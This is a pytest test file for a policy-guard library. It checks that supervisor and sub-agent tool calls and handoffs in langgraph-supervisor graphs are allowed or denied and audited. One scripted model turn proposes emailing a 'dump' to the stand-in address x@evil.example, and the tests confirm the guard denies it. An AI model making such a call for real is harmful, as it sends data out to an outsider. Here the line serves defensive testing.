"""langgraph-supervisor, wired as docs/langgraph.md says: the supervisor's own tools in a guarded
ToolNode (which create_supervisor rebuilds to add its handoff tools), sub-agents with their own
guarded tools. Every tool call is decided, the handoffs too, and the supervisor's model calls are
recorded without adding the callback handler by hand."""

from __future__ import annotations

import asyncio
import warnings
from typing import Any

import pytest
from langchain_core.messages import HumanMessage
from langgraph.prebuilt import ToolNode

from tether.core import AuditStore, Guard
from tether.langgraph import Tether

from .conftest import POLICY, CountingModel, calls

supervisor_lib = pytest.importorskip("langgraph_supervisor", reason="needs langgraph-supervisor")

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")  # create_react_agent moved

THREAD = {"configurable": {"thread_id": "sup-1"}}


def policy() -> dict[str, Any]:
    bot = POLICY["agents"]["support-bot"]
    supervisor = {**bot, "tools": {**bot["tools"], "transfer_to_researcher": "allow"}}
    researcher = {**bot, "tools": {"lookup": "allow"}}
    tools = {**POLICY["tools"], "transfer_to_researcher": {"effects": ["read"]}}
    return {**POLICY, "tools": tools, "agents": {"supervisor": supervisor, "researcher": researcher}}


def supervisor_graph(
    tether: Tether, tools: list[Any], boss: CountingModel, helper: CountingModel, wiring: str = "tool_node"
) -> Any:
    """The supervisor's own tools as a guarded ToolNode (the documented wiring), or as a list of
    guarded tools; the researcher's in a guarded ToolNode."""
    from langgraph.prebuilt import create_react_agent

    lookup, send_email, _ = tools
    wrap = {"wrap_tool_call": tether.wrap_tool_call, "awrap_tool_call": tether.awrap_tool_call}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # create_react_agent moved to langchain.agents
        researcher = create_react_agent(helper, ToolNode([lookup], **wrap), name="researcher")
    own: Any = ToolNode([send_email], **wrap) if wiring == "tool_node" else [tether.guard_tool(send_email)]
    try:
        built = supervisor_lib.create_supervisor([researcher], model=boss, tools=own, supervisor_name="supervisor")
    except AttributeError as exc:
        if "handle_tool_errors" not in str(exc):
            raise
        pytest.skip(  # a framework limit, not Tether's
            "this langgraph-supervisor fails on tools of the supervisor's own with this "
            f"langgraph-prebuilt ({exc}); its handoffs are tested without them"
        )
    return built.compile()


def scripted() -> tuple[CountingModel, CountingModel]:
    boss = CountingModel(
        script=[
            calls(("send_email", {"to": "x@evil.example", "body": "dump"}, "s1")),
            calls(("transfer_to_researcher", {}, "s2")),
        ]
    )
    helper = CountingModel(script=[calls(("lookup", {"ticket": "7"}, "r1"))])
    return boss, helper


WIRINGS = pytest.mark.parametrize("wiring", ["tool_node", "guarded_tools"])


@WIRINGS
@pytest.mark.parametrize("run", ["invoke", "ainvoke"])
def test_the_supervisors_own_tools_and_handoffs_are_decided(
    store: AuditStore, tools, ran, run: str, wiring: str
) -> None:
    guard = Guard(policy(), store=store)
    boss, helper = scripted()
    graph = supervisor_graph(Tether(guard), tools, boss, helper, wiring)
    inputs = {"messages": [HumanMessage("help with ticket 7")]}
    if run == "invoke":
        graph.invoke(inputs, THREAD)
    else:
        asyncio.run(graph.ainvoke(inputs, THREAD))

    assert ran.count("send_email") == 0  # the supervisor's own tool, behind the rebuilt node
    assert "Tether denied the call to 'send_email'" in boss.tool_replies()["s1"]
    assert ran.calls == [("lookup", {"ticket": "7"})]  # the sub-agent ran after the handoff
    decisions = [(e.agent, e.tool, e.verdict) for e in store.session_events("sup-1") if e.kind == "tool.decision"]
    assert decisions == [
        ("supervisor", "send_email", "deny"),
        ("supervisor", "transfer_to_researcher", "allow"),
        ("researcher", "lookup", "allow"),
    ]


@WIRINGS
def test_a_handoff_the_policy_does_not_grant_is_refused(store: AuditStore, tools, ran, wiring: str) -> None:
    spec = policy()
    del spec["agents"]["supervisor"]["tools"]["transfer_to_researcher"]
    boss, helper = scripted()
    supervisor_graph(Tether(Guard(spec, store=store)), tools, boss, helper, wiring).invoke(
        {"messages": [HumanMessage("x")]}, THREAD
    )
    assert helper.seen == [] and ran.calls == []  # the researcher never got the conversation
    assert "Tether denied the call to 'transfer_to_researcher'" in boss.tool_replies()["s2"]


@WIRINGS
def test_the_supervisors_model_calls_are_recorded_without_the_handler(
    store: AuditStore, tools, ran, wiring: str
) -> None:
    guard = Guard(policy(), store=store)
    boss, helper = scripted()
    supervisor_graph(Tether(guard), tools, boss, helper, wiring).invoke(
        {"messages": [HumanMessage("ticket 7")]}, THREAD
    )
    events = store.session_events("sup-1")
    by_id = {e.event_id: e for e in events}
    requests = [e for e in events if e.kind == "model.request"]
    assert {e.agent for e in requests} == {"supervisor", "researcher"}
    assert len([e for e in requests if e.agent == "supervisor"]) == len(boss.seen) == 3
    for decision in (e for e in events if e.kind == "tool.decision"):
        proposed = by_id[decision.parent_id]  # each decision links to the response that proposed it
        assert proposed.kind == "model.response" and proposed.agent == decision.agent


@pytest.mark.parametrize("granted", [True, False])
def test_a_supervisor_without_tools_of_its_own_has_its_handoffs_decided(
    store: AuditStore, tools, ran, granted: bool
) -> None:
    """No ToolNode of the supervisor's to guard: its run is governed because one of its agents
    holds a guarded ToolNode, so the handoff tools it builds are decided too."""
    from langgraph.prebuilt import create_react_agent

    spec = policy()
    if not granted:
        del spec["agents"]["supervisor"]["tools"]["transfer_to_researcher"]
    tether = Tether(Guard(spec, store=store))
    boss = CountingModel(script=[calls(("transfer_to_researcher", {}, "s2"))])
    helper = CountingModel(script=[calls(("lookup", {"ticket": "7"}, "r1"))])
    node = ToolNode([tools[0]], wrap_tool_call=tether.wrap_tool_call, awrap_tool_call=tether.awrap_tool_call)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        researcher = create_react_agent(helper, node, name="researcher")
    graph = supervisor_lib.create_supervisor([researcher], model=boss, supervisor_name="supervisor").compile()
    graph.invoke({"messages": [HumanMessage("ticket 7")]}, THREAD)
    decisions = [(e.agent, e.tool, e.verdict) for e in store.session_events("sup-1") if e.kind == "tool.decision"]
    if granted:
        assert decisions == [("supervisor", "transfer_to_researcher", "allow"), ("researcher", "lookup", "allow")]
        assert ran.calls == [("lookup", {"ticket": "7"})]
    else:
        assert decisions == [("supervisor", "transfer_to_researcher", "deny")]
        assert helper.seen == [] and ran.calls == []
    assert any(e.kind == "model.request" and e.agent == "supervisor" for e in store.session_events("sup-1"))
